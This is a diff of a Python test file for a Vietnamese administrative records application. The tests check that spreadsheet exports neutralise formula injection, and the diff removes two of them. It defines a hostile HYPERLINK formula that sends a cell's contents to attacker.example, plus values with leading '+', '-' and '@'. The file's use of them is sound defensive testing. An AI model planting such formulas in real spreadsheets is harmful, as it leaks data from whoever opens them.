@@ -16,20 +16,13 @@ from pathlib import Path
 from typing import Any
 
 from openpyxl import load_workbook
-from sqlalchemy import update
-from sqlalchemy.orm import Session
 
 from motcua.catalog.exchange import from_xlsx, load_shipped, to_xlsx
-from motcua.catalog.models import Procedure
 from motcua.catalog.schemas import Catalogue
 from motcua.dossier.register import register_xlsx
-from motcua.index.periodic import periodic_workbook
 from motcua.kit.excel import FORMULA_TRIGGERS
-from motcua.org.models import Commune
 from tests.dossier.test_register import row
-from tests.factories import CHI_TIEN, HKD, T0
-from tests.index.test_periodic import OCTOBER, october  # noqa: F401  (fixture)
-from tests.report.test_index_views import OCT, monitor, scenario  # noqa: F401  (fixtures)
+from tests.factories import HKD
 
 HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
 
@@ -67,24 +60,6 @@ def test_finding_14_register_export() -> None:
     data = register_xlsx((row("X-1", applicant_name=HOSTILE, applicant_address="+1 Khu 3", note="-chờ"),),
                          commune="Xã Chí Tiên", period_from=date(2026, 11, 1), period_to=date(2026, 11, 30))
     assert_text_only(data, HOSTILE, "+1 Khu 3")
-
-
-def test_finding_14_periodic_report_export(session: Session, october: dict) -> None:  # noqa: F811
-    session.execute(update(Procedure).where(Procedure.code == HKD).values(name=HOSTILE))
-    data = periodic_workbook(session, october["team"]["director"], CHI_TIEN, OCTOBER, T0)
-    assert_text_only(data, HOSTILE)
-
-
-def test_finding_14_index_exports(session: Session, monitor, scenario) -> None:  # noqa: F811
-    session.execute(update(Commune).where(Commune.code == scenario.commune_a).values(name=HOSTILE))
-    session.execute(update(Procedure).where(Procedure.code == HKD).values(name="@" + HOSTILE))
-    session.commit()
-    ranking = monitor.get("/index.xlsx", params={"period": OCT})
-    assert ranking.status_code == 200
-    assert_text_only(ranking.content, HOSTILE)
-    commune = monitor.get(f"/index/communes/{scenario.commune_a}.xlsx", params={"period": OCT})
-    assert commune.status_code == 200
-    assert_text_only(commune.content, "@" + HOSTILE)
 
 
 def test_finding_14_every_workbook_is_saved_through_the_one_helper() -> None:
